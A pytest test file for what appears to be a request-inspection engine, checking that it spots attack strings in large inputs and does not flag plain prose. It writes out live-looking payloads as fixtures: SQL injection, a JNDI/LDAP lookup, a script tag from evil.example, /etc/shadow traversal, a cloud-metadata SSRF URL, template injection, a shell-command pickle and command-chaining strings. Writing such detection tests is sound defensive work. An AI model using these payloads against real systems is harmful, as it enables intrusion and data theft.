"""Large events: read in full at first, then where a literal stands that attacks have."""

import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lambdaguard.invocation import PLACES
from lambdaguard.lexers.bulk import FULL, LONG, telling, windows
from lambdaguard.lexers.bulk_values import holders
from lambdaguard.lexers.phrases import prose
from lambdaguard.rules.engine import Engine
from lambdaguard.rules.index import FAMILIES

DATA = Path(__file__).parent.parent / "data"
ENGINE = Engine(FAMILIES)
FILLER = "It's a long story (he said); \"and then\" 5 < 6 & more, isn't it? "
ATTACKS = [
    "1' UNION SELECT card FROM payments-- -",
    "${jndi:ldap://203.0.113.66/a}",
    "<script src=//evil.example/x.js></script>",
    "../../../../etc/shadow",
    "http://169.254.169.254/latest/meta-data/iam/",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("at", [0, 20_000, 333_333, 10**9], ids=["first", "early", "middle", "last"])
def test_an_attack_among_many_strings_is_looked_at(attack, at):
    texts = [f"{FILLER}{number}" for number in range(8_000)]
    texts.insert(min(at // len(FILLER), len(texts)), attack)
    assert attack in Engine(FAMILIES).suspects(texts)


@pytest.mark.parametrize("attack", ATTACKS[:3])
@pytest.mark.parametrize("at", [0, 20_000, 333_333, 10**9], ids=["first", "early", "middle", "last"])
def test_an_attack_in_one_long_string_is_seen(attack, at):
    text = "It's a long story (he said), isn't it? " * 14_000
    text = f"{text[:at]} {attack} {text[at:]}"
    assert any(match.rule.family in ("sql", "jndi", "xss") for match in ENGINE.judge(text, "body"))


@given(st.lists(st.sampled_from([*ATTACKS, "' or 1=1", "..%2f", "=1=1", FILLER * 20, "x" * 900]), max_size=80))
def test_windows_are_pieces_of_the_text_and_bounded(parts):
    text = "".join(parts)
    pieces = list(windows(text))
    assert all(text[start : start + len(window)] == window for start, window in pieces)
    assert sum(len(window) for _, window in pieces) <= max(2 * LONG, 70 * 8192)


def test_little_is_never_thinned_out():
    texts = [f"{FILLER}{number}" for number in range(FULL // len(FILLER) // 2)]
    assert telling(texts) == texts


PROSE = [
    "It's a long story, and the dog's bone isn't here.",
    "The price is 12.50, or 1,000 for all (that is 50% off).",
    "We met at 10:30 - she said: no way!",
    "Société générale in München, and Übermut",
]
NOT_PROSE = [
    "7) AND (3 LIKE 3",
    "x' or 'a",
    "alert(1)",
    "a; ls",
    "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU",
    "one",
    "a\nBcc: b",
    "169.254.169.254 is it",
    "--output here",
    "ｕｎｉｏｎ ｓｅｌｅｃｔ",
]


@pytest.mark.parametrize("text", PROSE)
def test_prose(text):
    assert prose(text)


@pytest.mark.parametrize("text", NOT_PROSE)
def test_what_is_not_plainly_prose(text):
    assert not prose(text)


@given(
    st.lists(
        st.sampled_from(
            [
                "it's",
                "a",
                "dog's",
                "(word)",
                "(two words)",
                "yes,",
                "no.",
                "1.5",
                "50%",
                "10:30",
                "- x",
                "& y",
                "$5",
                "or",
                "and",
                "well!",
            ]
        ),
        min_size=2,
        max_size=9,
    )
)
def test_what_passes_for_prose_without_a_telling_word_is_blocked_by_no_rule(words):
    text = " ".join(words)
    if prose(text) and not ENGINE._plan.in_prose(text.lower()):
        assert not any(match.confidence == "high" for place in PLACES for match in ENGINE.judge(text, place))


@given(st.lists(st.sampled_from([*ATTACKS, "It's fine", "a", "", "x" * 40, "é 'or' ü", "İ < 5", "a\x1eb"]), max_size=12))
def test_signs_in_many_texts_are_those_of_each(texts):
    together = holders(texts)
    apart = list(dict.fromkeys([text for text in texts if holders([text])]))
    assert together == (apart if "a\x1eb" not in texts else texts)


@pytest.mark.parametrize("attack", ATTACKS)
def test_plenty_of_one_sign_hides_no_other(attack):
    decoys = "It's `ls -l` again, as so often; " * 20_000
    text = f"{decoys[:300_000]} {attack} {decoys[300_000:]}"
    assert any(attack[:12] in window for _, window in windows(text))


def payloads(file: Path) -> list[str]:
    lines = [line for line in file.read_text(encoding="utf-8").split("\n") if line]
    return list(dict.fromkeys(json.loads(line)["payload"] for line in lines))


@pytest.mark.parametrize("file", sorted(DATA.glob("attacks_*.jsonl")), ids=lambda file: file.stem)
def test_signs_tell_attacks(file):
    """List by list, since no more is chosen of many texts than there is room for."""
    texts = payloads(file)
    assert len(holders(texts)) > 0.75 * len(texts) > 10


def test_signs_do_not_tell_other_text():
    texts = list(dict.fromkeys(text for file in DATA.glob("benign_*.jsonl") for text in payloads(file)))
    assert len(holders(texts)) < 0.9 * len(texts)
    assert len(texts) > 300


@pytest.mark.parametrize("at", [100_000, 300_001, 500_123])
def test_a_window_begins_nothing(at):
    """A line of a long text that would be an attack if it were all there is."""
    note = (
        "Bumps it.\n\nhttps://github.com/x/y/compare/"
        + "4e94" * 10
        + "..."
        + "05fe" * 10
        + ")\n\n---\ndependency-name: y/z\n `rm -rf build`\n"
    )
    filler = "Notes of the release, as they were written then.\n" * 12_000
    assert not any(match.confidence == "high" for match in ENGINE.judge(filler[:at] + note * 3 + filler[at:], "body"))
